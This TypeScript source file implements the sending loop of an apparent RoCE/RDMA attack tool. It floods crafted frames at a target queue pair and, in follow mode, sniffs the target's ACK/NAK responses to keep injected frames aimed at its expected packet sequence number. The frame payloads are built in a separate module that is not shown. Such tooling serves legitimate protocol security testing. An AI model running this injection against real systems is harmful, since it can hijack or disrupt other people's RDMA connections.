/**
 * The sending loop of `roce attack`: the cases in turn (a mixed flood when there are several),
 * `count` frames in all, at `ratePps` frames per second (or as fast as the driver takes them),
 * through any frame driver. With `follow`, the loop watches what the target sends back to this
 * host between bursts and moves its PSN window to the target's expected PSN (the PSN of the
 * target's latest response + 1), so a flood keeps hitting PSNs "at and around the expected one"
 * while the connection goes on.
 */
import { ATTACK_CASES, type AttackCase, type AttackTarget, craftFrame } from './attack-cases';
import { decodeFrame } from '../../packets/decode';
import { OpFlag } from '../../packets/opcodes';
import { AethKind, decodeSyndrome } from '../../packets/aeth';
import { ipv4ToString } from '../../packets/bytes';
import { psnAdd } from '../../base/psn';
import { AttackError, AttackErrorCode } from './attack-error';

/** What the loop sends through (a NicDriver has both). */
export interface AttackPort {
  txBurst(frames: readonly Uint8Array[]): number;
  rxBurst(max: number): Uint8Array[];
  /** The target QP's expected PSN read directly, where the port can (the memory test mode: the target lives in this process). */
  expectedPsn?(qpn: number): number | null;
}

export interface AttackPlan {
  cases: readonly AttackCase[];
  /** Frames in all. */
  count: number;
  /** Frames per second; null: as fast as the driver takes them. */
  ratePps: number | null;
  /** Follow the target's expected PSN from its responses (see the file comment). */
  follow: boolean;
  /** With `follow` and no PSN yet: how long to wait for the first response (ms). */
  learnMs: number;
}

export interface AttackSummary {
  ok: boolean;
  frames: number;
  seconds: number;
  /** Frames sent per case. */
  perCase: Partial<Record<AttackCase, number>>;
  target: { ip: string; qpn: number; psnFirst: number; psnLast: number };
  /** Responses of the target seen (follow mode). */
  responsesSeen: number;
}

/** Frames per burst handed to the driver. */
const BURST = 32;
/** How long the driver may refuse every frame before the run gives up (ms). */
const TX_STALL_MS = 2000;

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const turn = (): Promise<void> => new Promise((r) => setImmediate(r));

/** The PSN the target expects next, from one frame it sent to us; null when the frame is not its response. */
export function expectedPsnFrom(frame: Uint8Array, t: AttackTarget): number | null {
  const d = decodeFrame(frame, undefined, { verifyIcrc: false });
  if (!d.roce || d.bth === null || d.info === undefined) return null;
  const src = d.ipv4 !== null ? ipv4ToString(d.ipv4.src) : null;
  if (src !== t.dstIp) return null;
  // An ACK, NAK or READ response of the target's responder: its PSN is the last one it took
  // (a NAK's is the expected one itself; READ responses run past the request's PSN, still behind the next one).
  if ((d.info.flags & OpFlag.RESP) === 0) return null;
  const isNak = d.aeth !== null && decodeSyndrome(d.aeth.syndrome).kind === AethKind.NAK;
  return isNak ? d.bth.psn : psnAdd(d.bth.psn, 1);
}

export async function runAttack(port: AttackPort, target: AttackTarget, plan: AttackPlan): Promise<AttackSummary> {
  const cases = plan.cases.length > 0 ? plan.cases : ATTACK_CASES;
  const perCase: Partial<Record<AttackCase, number>> = {};
  const t: AttackTarget = { ...target };
  let responses = 0;
  const learn = (): boolean => {
    let got = false;
    const direct = port.expectedPsn?.(t.qpn) ?? null;
    if (direct !== null) {
      t.psn = direct;
      responses++;
      return true;
    }
    for (const f of port.rxBurst(256)) {
      const p = expectedPsnFrom(f, t);
      if (p !== null) {
        t.psn = p;
        responses++;
        got = true;
      }
    }
    return got;
  };
  if (plan.follow && t.psn < 0) {
    const deadline = Date.now() + plan.learnMs;
    while (!learn()) {
      if (Date.now() > deadline)
        throw new AttackError(
          AttackErrorCode.NO_PSN,
          `no response from ${t.dstIp} within ${plan.learnMs} ms to learn QP 0x${t.qpn.toString(16)}'s expected PSN (give --psn)`,
        );
      await sleep(1);
    }
  }
  const psnFirst = t.psn;
  const t0 = Date.now();
  let sent = 0;
  let stalledSince = -1;
  let pending: Uint8Array[] = [];
  let pendingCases: AttackCase[] = [];
  while (sent < plan.count) {
    if (plan.follow) learn();
    if (pending.length === 0) {
      let due = plan.count - sent;
      if (plan.ratePps !== null) due = Math.min(due, Math.floor(((Date.now() - t0) / 1000) * plan.ratePps) + 1 - sent);
      for (let k = 0; k < Math.min(BURST, due); k++) {
        const c = cases[(sent + k) % cases.length] as AttackCase;
        const i = (perCase[c] ?? 0) + pendingCases.filter((x) => x === c).length;
        pending.push(craftFrame(c, t, i));
        pendingCases.push(c);
      }
    }
    if (pending.length === 0) {
      await sleep(1); // ahead of the rate
      continue;
    }
    const n = port.txBurst(pending);
    for (let k = 0; k < n; k++) {
      const c = pendingCases[k] as AttackCase;
      perCase[c] = (perCase[c] ?? 0) + 1;
    }
    sent += n;
    pending = pending.slice(n);
    pendingCases = pendingCases.slice(n);
    if (n === 0) {
      if (stalledSince < 0) stalledSince = Date.now();
      else if (Date.now() - stalledSince > TX_STALL_MS)
        throw new AttackError(AttackErrorCode.TX_STALLED, `the driver took no frame for ${TX_STALL_MS} ms (${sent} of ${plan.count} sent)`);
      await sleep(1);
    } else {
      stalledSince = -1;
      await turn();
    }
  }
  return {
    ok: true,
    frames: sent,
    seconds: (Date.now() - t0) / 1000,
    perCase,
    target: { ip: t.dstIp, qpn: t.qpn, psnFirst, psnLast: t.psn },
    responsesSeen: responses,
  };
}
